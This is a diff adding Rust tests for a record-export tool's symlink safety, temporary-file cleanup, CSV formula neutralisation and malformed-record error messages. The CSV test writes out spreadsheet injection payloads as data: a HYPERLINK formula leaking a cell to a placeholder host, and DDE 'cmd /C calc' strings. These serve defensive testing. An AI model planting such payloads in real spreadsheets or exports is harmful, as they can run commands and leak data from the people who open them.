@@ -241,3 +241,387 @@ fn an_export_through_a_running_node_is_byte_for_byte_the_export_of_its_store() {
     }
     node.stop();
 }
+
+/// The names in `dir`, sorted.
+fn names_in(dir: &std::path::Path) -> Vec<String> {
+    let mut names: Vec<String> = std::fs::read_dir(dir)
+        .unwrap_or_else(|e| panic!("{}: {e}", dir.display()))
+        .map(|e| {
+            e.unwrap_or_else(|e| panic!("{e}"))
+                .file_name()
+                .to_string_lossy()
+                .into_owned()
+        })
+        .collect();
+    names.sort();
+    names
+}
+
+#[cfg(unix)]
+#[test]
+fn export_out_follows_no_link_and_clobbers_no_file_beside_it() {
+    let home = TestHome::init("Ville-Test");
+    home.ok(&["publish", examples().to_str().unwrap_or_default()]);
+    let expected = home.ok(&["export"]);
+    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
+    let victim = dir.path().join("victim.txt");
+    std::fs::write(&victim, "précieux\n").unwrap_or_else(|e| panic!("{e}"));
+    let out = dir.path().join("corpus.jsonl");
+    // Links planted where a fixed temporary name would be (`corpus.partial`, as written before,
+    // and `corpus.jsonl.partial`) point at the victim.
+    for name in ["corpus.partial", "corpus.jsonl.partial"] {
+        std::os::unix::fs::symlink(&victim, dir.path().join(name))
+            .unwrap_or_else(|e| panic!("{e}"));
+    }
+    home.ok(&["export", "--out", out.to_str().unwrap_or_default()]);
+    assert!(
+        std::fs::read_to_string(&victim).is_ok_and(|t| t == "précieux\n"),
+        "the link's target was overwritten"
+    );
+    assert!(
+        std::fs::read_to_string(&out).is_ok_and(|t| t == expected),
+        "the export is in {}",
+        out.display()
+    );
+    for name in ["corpus.partial", "corpus.jsonl.partial"] {
+        let link = std::fs::symlink_metadata(dir.path().join(name));
+        assert!(
+            link.is_ok_and(|m| m.file_type().is_symlink()),
+            "{name} is still the link it was"
+        );
+    }
+
+    // An unrelated file of that name is left alone too.
+    let other = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
+    let out = other.path().join("corpus.jsonl");
+    for name in ["corpus.partial", "corpus.jsonl.partial"] {
+        std::fs::write(other.path().join(name), "autre chose\n").unwrap_or_else(|e| panic!("{e}"));
+    }
+    home.ok(&["export", "--out", out.to_str().unwrap_or_default()]);
+    for name in ["corpus.partial", "corpus.jsonl.partial"] {
+        assert_eq!(
+            std::fs::read_to_string(other.path().join(name))
+                .ok()
+                .as_deref(),
+            Some("autre chose\n"),
+            "{name} is untouched"
+        );
+    }
+    assert!(
+        std::fs::read_to_string(&out).is_ok_and(|t| t == expected),
+        "the export is in {}",
+        out.display()
+    );
+    assert_eq!(
+        names_in(other.path()),
+        ["corpus.jsonl", "corpus.jsonl.partial", "corpus.partial"],
+        "no temporary file is left"
+    );
+}
+
+#[test]
+fn a_failed_export_leaves_no_temporary_file() {
+    let home = TestHome::init("Ville-Test");
+    home.ok(&["publish", examples().to_str().unwrap_or_default()]);
+    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
+    // The output is a folder: the export is written in full, then cannot replace it.
+    let out = dir.path().join("corpus.jsonl");
+    std::fs::create_dir(&out).unwrap_or_else(|e| panic!("{e}"));
+    let err = home.fails(&["export", "--out", out.to_str().unwrap_or_default()], 3);
+    assert!(
+        err.contains("corpus.jsonl"),
+        "the error names the file: {err}"
+    );
+    assert_eq!(
+        names_in(dir.path()),
+        ["corpus.jsonl"],
+        "nothing left behind"
+    );
+    assert!(names_in(&out).is_empty(), "nothing written into the folder");
+}
+
+#[test]
+fn csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised() {
+    let home = TestHome::init("Ville-Test");
+    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
+    let text = r#"---
+kind: evaluation
+title: '=HYPERLINK("http://example.invalid/?leak="&A1, "cliquez")'
+summary: "@SUM(1+1)*cmd|' /C calc'!A0"
+town: "+cmd|' /C calc'!A0"
+themes: [energy]
+tags: ["-2+3+cmd|' /C calc'!A0", ordinaire]
+method: metered
+indicators:
+  - { name: "=1+1", unit: "%", value: -12 }
+links:
+  - { rel: evaluates, file: nombre.md }
+---
+Corps.
+"#;
+    std::fs::write(dir.path().join("piege.md"), text).unwrap_or_else(|e| panic!("{e}"));
+    let number = r#"---
+kind: experiment
+title: -12.5
+summary: "42"
+themes: [energy]
+outcome: partial
+---
+Corps.
+"#;
+    std::fs::write(dir.path().join("nombre.md"), number).unwrap_or_else(|e| panic!("{e}"));
+    home.ok(&["publish", dir.path().to_str().unwrap_or_default()]);
+
+    let csv_text = home.ok(&["export", "--format", "csv"]);
+    let mut reader = csv::Reader::from_reader(csv_text.as_bytes());
+    let header = reader
+        .headers()
+        .unwrap_or_else(|e| panic!("{e}"))
+        .iter()
+        .map(str::to_owned)
+        .collect::<Vec<_>>();
+    let column = |name: &str| {
+        header
+            .iter()
+            .position(|h| h == name)
+            .unwrap_or_else(|| panic!("no column {name}"))
+    };
+    let rows: Vec<csv::StringRecord> = reader
+        .records()
+        .map(|r| r.unwrap_or_else(|e| panic!("{e}")))
+        .collect();
+    assert_eq!(rows.len(), 2);
+    let trap = rows
+        .iter()
+        .find(|r| r[column("kind")] == *"evaluation")
+        .unwrap_or_else(|| panic!("no evaluation row"));
+    for (name, expected) in [
+        (
+            "title",
+            r#"'=HYPERLINK("http://example.invalid/?leak="&A1, "cliquez")"#,
+        ),
+        ("summary", "'@SUM(1+1)*cmd|' /C calc'!A0"),
+        ("town", "'+cmd|' /C calc'!A0"),
+        ("tags", "'-2+3+cmd|' /C calc'!A0;ordinaire"),
+        ("indicators", "'=1+1=-12 %"),
+    ] {
+        assert_eq!(&trap[column(name)], expected, "column {name}");
+    }
+    for cell in rows.iter().flat_map(|r| r.iter()) {
+        assert!(
+            !cell.starts_with(['=', '+', '@', '\t', '\r'])
+                && (!cell.starts_with('-') || cell.parse::<f64>().is_ok()),
+            "a live formula in the CSV: {cell:?}"
+        );
+    }
+    // A cell that is a plain number stays a number.
+    let plain = rows
+        .iter()
+        .find(|r| r[column("kind")] == *"experiment")
+        .unwrap_or_else(|| panic!("no experiment row"));
+    assert_eq!(&plain[column("title")], "-12.5");
+    assert_eq!(&plain[column("summary")], "42");
+    // The JSONL export is the signed record's text, unchanged.
+    let jsonl = home.ok(&["export"]);
+    assert!(jsonl.contains(r#""title":"=HYPERLINK("#), "{jsonl}");
+}
+
+/// A copy of an export line whose signed record is rebuilt from `edit` of its body (as a CBOR
+/// value); the signature is kept (decoding fails before it is checked).
+fn with_body(
+    line: &str,
+    edit: impl FnOnce(&mut Vec<(ciborium::Value, ciborium::Value)>),
+) -> String {
+    with_record(line, |record| {
+        let (body, signature) = split_record(record);
+        let mut value: ciborium::Value =
+            ciborium::from_reader(body.as_slice()).unwrap_or_else(|e| panic!("{e}"));
+        let ciborium::Value::Map(fields) = &mut value else {
+            panic!("the body is not a map")
+        };
+        edit(fields);
+        let mut body = Vec::new();
+        ciborium::into_writer(&value, &mut body).unwrap_or_else(|e| panic!("{e}"));
+        join_record(body, signature)
+    })
+}
+
+fn with_record(line: &str, change: impl FnOnce(Vec<u8>) -> Vec<u8>) -> String {
+    edit(line, |m| {
+        let bytes = STANDARD
+            .decode(m["record"].as_str().unwrap_or_default())
+            .unwrap_or_else(|e| panic!("{e}"));
+        m.insert("record".into(), STANDARD.encode(change(bytes)).into());
+    })
+}
+
+fn split_record(record: Vec<u8>) -> (Vec<u8>, Vec<u8>) {
+    let value: ciborium::Value =
+        ciborium::from_reader(record.as_slice()).unwrap_or_else(|e| panic!("{e}"));
+    match value {
+        ciborium::Value::Array(mut parts) if parts.len() == 2 => {
+            let signature = parts.pop().and_then(|v| v.into_bytes().ok());
+            let body = parts.pop().and_then(|v| v.into_bytes().ok());
+            (body.unwrap_or_default(), signature.unwrap_or_default())
+        }
+        _ => panic!("not a record"),
+    }
+}
+
+fn join_record(body: Vec<u8>, signature: Vec<u8>) -> Vec<u8> {
+    let mut out = Vec::new();
+    ciborium::into_writer(
+        &ciborium::Value::Array(vec![
+            ciborium::Value::Bytes(body),
+            ciborium::Value::Bytes(signature),
+        ]),
+        &mut out,
+    )
+    .unwrap_or_else(|e| panic!("{e}"));
+    out
+}
+
+fn set(fields: &mut [(ciborium::Value, ciborium::Value)], key: &str, value: ciborium::Value) {
+    for (k, v) in fields.iter_mut() {
+        if k.as_text() == Some(key) {
+            *v = value;
+            return;
+        }
+    }
+    panic!("no field {key}");
+}
+
+fn in_publication(
+    fields: &mut [(ciborium::Value, ciborium::Value)],
+    edit: impl FnOnce(&mut Vec<(ciborium::Value, ciborium::Value)>),
+) {
+    for (k, v) in fields.iter_mut() {
+        if k.as_text() == Some("publication")
+            && let ciborium::Value::Map(p) = v
+        {
+            edit(p);
+            return;
+        }
+    }
+    panic!("no publication");
+}
+
+#[test]
+fn verify_names_the_field_and_what_was_expected_for_each_malformed_record() {
+    use ciborium::Value as Cbor;
+    let home = TestHome::init("Ville-Test");
+    let lines = exported_lines(&home);
+    let base = &lines[0];
+    let cases: Vec<(String, &[&str])> = vec![
+        (
+            with_body(base, |b| set(b, "created_at", Cbor::Text("hier".into()))),
+            &[
+                "`created_at`",
+                "text",
+                "expected an integer (milliseconds since 1970)",
+            ],
+        ),
+        (
+            with_body(base, |b| set(b, "v", Cbor::Text("un".into()))),
+            &["`v`", "text", "expected an integer"],
+        ),
+        (
+            with_body(base, |b| set(b, "author", Cbor::Bytes(vec![7; 16]))),
+            &["`author`", "32 bytes"],
+        ),
+        (
+            with_body(base, |b| {
+                in_publication(b, |p| set(p, "title", Cbor::Integer(5.into())))
+            }),
+            &["`publication.title`", "an integer", "expected text"],
+        ),
+        (
+            with_body(base, |b| {
+                in_publication(b, |p| {
+                    set(p, "themes", Cbor::Array(vec![Cbor::Text("lune".into())]))
+                })
+            }),
+            &["`publication.themes[0]`", "lune", "energy"],
+        ),
+        (
+            with_body(base, |b| {
+                in_publication(b, |p| p.retain(|(k, _)| k.as_text() != Some("kind")))
+            }),
+            &["`publication.kind`", "missing"],
+        ),
+        (
+            with_body(base, |b| {
+                b.push((Cbor::Text("extra".into()), Cbor::Bool(true)))
+            }),
+            &["`extra`", "not a field"],
+        ),
+        (
+            with_record(base, |r| {
+                let (mut body, signature) = split_record(r);
+                body.truncate(body.len() / 2);
+                join_record(body, signature)
+            }),
+            &["body", "ends"],
+        ),
+        (
+            with_record(base, |r| {
+                let (_, signature) = split_record(r);
+                join_record(vec![0xa1, 0x61, b'v', 0x1c], signature)
+            }),
+            &["body", "`v`", "CBOR"],
+        ),
+        (
+            with_record(base, |r| {
+                let (_, signature) = split_record(r);
+                join_record(vec![0x05], signature)
+            }),
+            &["body", "an integer", "map"],
+        ),
+        (
+            with_record(base, |mut r| {
+                r.truncate(r.len() - 10);
+                r
+            }),
+            &["record", "ends too early"],
+        ),
+        (
+            edit(base, |m| {
+                m.insert("record".into(), "pas du base64 !".into());
+            }),
+            &["`record`", "base64"],
+        ),
+    ];
+    let path = home.path().join("malformed.jsonl");
+    let text: Vec<&str> = cases.iter().map(|(l, _)| l.as_str()).collect();
+    std::fs::write(&path, text.join("\n") + "\n").unwrap_or_else(|e| panic!("{e}"));
+    let err = TestHome::empty().fails(&["verify", path.to_str().unwrap_or_default()], 1);
+    for (n, (_, says)) in cases.iter().enumerate() {
+        let prefix = format!("malformed.jsonl:line {}: ", n + 1);
+        let found = err
+            .lines()
+            .find(|l| l.contains(&prefix))
+            .unwrap_or_else(|| panic!("line {} not named in:\n{err}", n + 1));
+        for word in *says {
+            assert!(
+                found.contains(word),
+                "line {}: no `{word}` in: {found}",
+                n + 1
+            );
+        }
+        for debug in [
+            "Semantic(",
+            "Syntax(",
+            "Some(",
+            "None",
+            "Io(",
+            "Error {",
+            "RecursionLimit",
+        ] {
+            assert!(
+                !found.contains(debug),
+                "line {}: a Rust debug message: {found}",
+                n + 1
+            );
+        }
+    }
+}
